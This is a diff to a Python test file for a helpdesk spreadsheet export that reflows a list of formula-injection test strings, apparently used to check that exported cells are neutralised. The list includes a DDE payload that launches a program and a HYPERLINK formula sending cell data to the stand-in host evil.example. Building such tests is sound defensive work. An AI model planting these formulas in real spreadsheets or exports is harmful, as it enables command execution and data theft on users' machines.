@@ -8,9 +8,10 @@ import pytest
 from helpdesk.reports import spreadsheet
 
 RUNS = [
-    "=1+1", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠A1",
-    " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", ";=1+1", ",=1+1", '"=1+1', "'=1+1", "\x00=1", "\x1f=1",
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "|calc", "%0A=1", "\tHello", "\rHello", "-", "--1", "+",
+    "=1+1", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1",
+    "＠A1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", ";=1+1", ",=1+1", '"=1+1', "'=1+1", "\x00=1",
+    "\x1f=1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    "|calc", "%0A=1", "\tHello", "\rHello", "-", "--1", "+",
     "=\r\n1", "\"\t=2",
 ]  # fmt: skip
 HARMLESS = ["Payment", "a=b", "1-2", "me@example.org", "", "Éléphant", "x;=1", "O’Brien", "20 % off", "c'est", "’"]
